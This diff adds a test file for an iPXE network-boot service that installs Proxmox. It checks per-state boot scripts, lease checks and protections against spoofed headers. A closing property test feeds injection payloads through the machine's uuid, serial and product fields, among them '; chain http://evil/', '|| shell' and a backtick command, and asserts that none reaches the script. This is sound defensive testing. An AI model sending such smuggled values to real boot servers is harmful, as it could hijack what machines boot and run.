@@ -1,0 +1,252 @@
+import fc from 'fast-check'
+import { afterEach, describe, expect, test } from 'vitest'
+import type { Ipv4 } from '../../services/kit/ipv4.ts'
+import type { Mac } from '../../services/kit/mac.ts'
+import { NODE1, STRANGER } from '../machine/rig.ts'
+import { ELSEWHERE, HERE, Rig, type RigOptions } from './rig.ts'
+
+let rig: Rig
+const start = async (options?: RigOptions): Promise<Rig> => (rig = await Rig.start(options))
+afterEach(() => rig.close())
+
+const LOCAL = [
+  'iseq ${platform} efi && exit 1 ||',
+  'sanboot --no-describe --drive 0x80 ||',
+  `chain --replace http://10.77.0.1/boot.ipxe?mac=${NODE1}&uuid=\${uuid}&serial=\${serial:uristring}&product=\${product:uristring}&disk=failed ||`,
+  'exit 1',
+  '',
+]
+
+describe('the script of each state', () => {
+  test.each([
+    ['installing', 'the answer was served: booting the local disk', []],
+    ['installed', 'installed: booting the local disk', []],
+    ['failed', 'the installation failed: booting the local disk', ['See why: rackrise machine timeline node1']],
+    ['stalled', 'the installation stalled: booting the local disk', ['See why: rackrise machine timeline node1']],
+    ['held', 'NOT APPROVED: nothing is installed on this machine', ['Approve it: rackrise machine approve node1']],
+  ] as const)('%s boots its disk', async (state, text, advice) => {
+    await start()
+    await rig.bring(state)
+    const reply = await rig.script()
+    const identity = advice.flatMap(line => [
+      'echo MAC ${netX/mac} serial ${serial} uuid ${uuid}',
+      `echo ${line}`,
+      'sleep 5',
+    ])
+    expect([reply.status, reply.text]).toEqual([
+      200,
+      ['#!ipxe', `echo Rackrise: node1: ${text}`, ...identity, ...LOCAL].join('\n'),
+    ])
+    expect((await rig.types()).at(-1)).toBe('local-disk-told')
+    expect(rig.node1.state).toBe(state)
+  })
+
+  test.each(['approved', 'booting'] as const)('%s installs', async state => {
+    await start()
+    await rig.bring(state)
+    const { attempt } = rig
+    const reply = await rig.script()
+    expect([reply.status, reply.headers['content-type'], reply.headers['cache-control']]).toEqual([
+      200,
+      'text/plain; charset=utf-8',
+      'no-store',
+    ])
+    expect(reply.text.split('\n').slice(0, 4)).toEqual([
+      '#!ipxe',
+      `echo Rackrise: installing Proxmox VE 9.2 on node1, attempt ${attempt}`,
+      `kernel http://10.77.0.1/boot/${attempt}/vmlinuz initrd=initrd.img rw quiet splash=silent proxmox-start-auto-installer console=ttyS0,115200 || goto failed`,
+      `initrd http://10.77.0.1/boot/${attempt}/initrd.img || goto failed`,
+    ])
+    expect([rig.node1.state, (await rig.types()).at(-1)]).toEqual(['booting', 'script-served'])
+  })
+
+  test('blocked is refused, with the way out', async () => {
+    await start()
+    await rig.bring('blocked')
+    const reply = await rig.script()
+    expect([reply.status, reply.text]).toEqual([
+      403,
+      'this machine is blocked; `rackrise machine approve` is the way out\n',
+    ])
+  })
+
+  test('a machine that is ignored is refused, and told by whom', async () => {
+    await start({ more: '[boot]\nunknown = "ignore"\n' })
+    rig.holders.set(ELSEWHERE, STRANGER)
+    const reply = await rig.script('', { mac: STRANGER, from: ELSEWHERE })
+    expect([reply.status, reply.text]).toEqual([
+      403,
+      'this machine is not in the site file, and boot.unknown is "ignore"; list it\n',
+    ])
+  })
+})
+
+test('a machine that comes back without its disk installs again, three times, then fails', async () => {
+  await start()
+  await rig.bring('installing')
+  for (const resumes of [1, 2, 3]) {
+    await rig.script()
+    rig.clock.advance(30_000)
+    expect((await rig.script('&disk=failed')).text).toContain('\nkernel http://')
+    expect(rig.node1.attempt?.resumes).toBe(resumes)
+    await rig.happen({
+      type: 'answer-served',
+      attempt: rig.attempt,
+      address: HERE,
+      layers: [],
+      sha256: '',
+      leftOut: [],
+      withToken: true,
+    })
+  }
+  await rig.script()
+  const last = await rig.script('&disk=failed')
+  expect(last.text).toBe(
+    [
+      '#!ipxe',
+      'echo Rackrise: node1: the installation failed: booting the local disk',
+      'echo MAC ${netX/mac} serial ${serial} uuid ${uuid}',
+      'echo See why: rackrise machine timeline node1',
+      'sleep 5',
+      'echo Rackrise: no bootable local disk',
+      'exit 1',
+      '',
+    ].join('\n'),
+  )
+  expect([rig.node1.state, rig.node1.reason]).toEqual(['failed', 'its disk did not boot after 3 resumed installations'])
+})
+
+describe('an attempt whose image is not there fails with a reason, and the machine boots its disk', () => {
+  test('no ISO fits', async () => {
+    await start({ releases: ['8.4'] })
+    await rig.approve()
+    expect((await rig.script()).text).toContain('echo Rackrise: node1: the installation failed')
+    expect(rig.node1.reason).toBe(
+      `no ISO fits "pve:9.2"; there is proxmox-ve_8.4-1.iso (pve 8.4-1); put one into ${rig.folder}/isos, or correct the profile's iso`,
+    )
+  })
+})
+
+describe('who is asking?', () => {
+  const WHO =
+    '#!ipxe\nchain --replace /boot.ipxe?mac=${netX/mac}&uuid=${uuid}&serial=${serial:uristring}&product=${product:uristring}\n'
+
+  test('without a MAC, from an address that nobody holds: asked to say', async () => {
+    await start()
+    expect((await rig.plain('/boot.ipxe', { from: ELSEWHERE })).text).toBe(WHO)
+  })
+
+  test('without a MAC, from the lease of node1: it is node1', async () => {
+    await start()
+    expect((await rig.plain('/boot.ipxe')).text).toContain('echo Rackrise: node1: NOT APPROVED')
+  })
+
+  test.each([
+    ['an InfiniBand port', '80:00:02:08:fe:80:00:00:00:00:00:00:e4:1d:2d:03:00:a0:b1:c2'],
+    ['an empty setting', ''],
+    ['nonsense', 'x'],
+  ])('%s is refused instead of being asked for ever', async (_, mac) => {
+    await start()
+    const reply = await rig.script('', { mac, from: ELSEWHERE })
+    expect([reply.status, reply.text]).toEqual([
+      400,
+      'mac is not the address of an Ethernet NIC; boot from one, or send mac=${netX/mac}\n',
+    ])
+  })
+
+  test('parameters that come twice are not taken', async () => {
+    await start()
+    const reply = await rig.script(`&mac=${STRANGER}&uuid=a&uuid=b&serial=A1&serial=A2&disk=failed&disk=failed`)
+    expect(reply.status).toBe(200)
+    expect([rig.node1.macs, rig.node1.serial]).toEqual([[NODE1], undefined])
+  })
+
+  test('a machine that is asked from another address than its lease', async () => {
+    await start()
+    await rig.approve()
+    rig.holders.set(ELSEWHERE, STRANGER)
+    for (const from of [ELSEWHERE, '127.0.0.77' as Ipv4]) {
+      const reply = await rig.script('', { from })
+      expect([reply.status, reply.text]).toEqual([
+        403,
+        `${from} does not hold the lease of ${NODE1}; boot it by DHCP of this appliance\n`,
+      ])
+    }
+    expect(rig.node1.state).toBe('approved')
+  })
+
+  test('one client cannot fill the fleet with machines that do not exist', async () => {
+    await start()
+    for (let n = 0; n < 10; n++) expect((await rig.script('', { mac: `02:00:00:00:00:0${n}` })).status).toBe(403)
+    expect(rig.registry.machines()).toHaveLength(1)
+  })
+
+  test('L07 a header that claims another address changes nothing', async () => {
+    await start()
+    const reply = await rig.script('', {
+      from: ELSEWHERE,
+      headers: { 'x-forwarded-for': HERE, forwarded: `for=${HERE}` },
+    })
+    expect(reply.status).toBe(403)
+  })
+
+  test('where another server gives addresses the MAC is believed', async () => {
+    await start({ dhcp: '[dhcp]\nmode = "proxy"' })
+    const reply = await rig.script('', { from: ELSEWHERE, mac: STRANGER })
+    expect([reply.status, rig.registry.byMac(STRANGER as Mac)?.state]).toEqual([200, 'held'])
+  })
+
+  test('what iPXE knows of the machine is learned, placeholders are not', async () => {
+    await start()
+    await rig.script(
+      '&uuid=4C4C4544-004B-3210-8051-B7C04F583933&serial=7K2QX93&product=Standard%20PC%20(Q35%20%2B%20ICH9,%202009)',
+    )
+    expect(rig.node1).toMatchObject({
+      uuid: '4c4c4544-004b-3210-8051-b7c04f583933',
+      serial: '7K2QX93',
+      product: 'Standard PC (Q35 + ICH9, 2009)',
+    })
+    await rig.script(
+      '&uuid=03000200-0400-0500-0006-000700080009&serial=Default%20string&product=To%20Be%20Filled%20By%20O.E.M.',
+    )
+    expect(rig.node1).toMatchObject({
+      uuid: '4c4c4544-004b-3210-8051-b7c04f583933',
+      serial: '7K2QX93',
+      product: 'Standard PC (Q35 + ICH9, 2009)',
+    })
+  })
+})
+
+test('property: nothing that a machine says of itself appears in its script', async () => {
+  await start()
+  const hostile = fc.oneof(
+    fc.constantFrom(
+      '\nimgfree',
+      '${initrd}',
+      '|| shell',
+      '\r\nset x y',
+      '; chain http://evil/',
+      '`id`',
+      '#!ipxe',
+      'A&disk=failed',
+      '\u0000',
+      '\ufeff',
+    ),
+    fc.string({ unit: 'binary', maxLength: 40 }),
+    fc.string({ maxLength: 40 }),
+  )
+  // A mark that no word of ours has, so that a part of it would be seen.
+  const marked = hostile.map(text => `Zq7${text}Zq7`)
+  for (const state of ['held', 'booting'] as const) {
+    await rig.bring(state)
+    const usual = (await rig.script()).text
+    await fc.assert(
+      fc.asyncProperty(marked, marked, marked, async (uuid, serial, product) => {
+        const [one, two, three] = [uuid, serial, product].map(text => encodeURIComponent(text.toWellFormed()))
+        const reply = await rig.script(`&uuid=${one}&serial=${two}&product=${three}`)
+        expect([reply.status, reply.text]).toEqual([200, usual])
+      }),
+      { numRuns: 40 },
+    )
+  }
+})
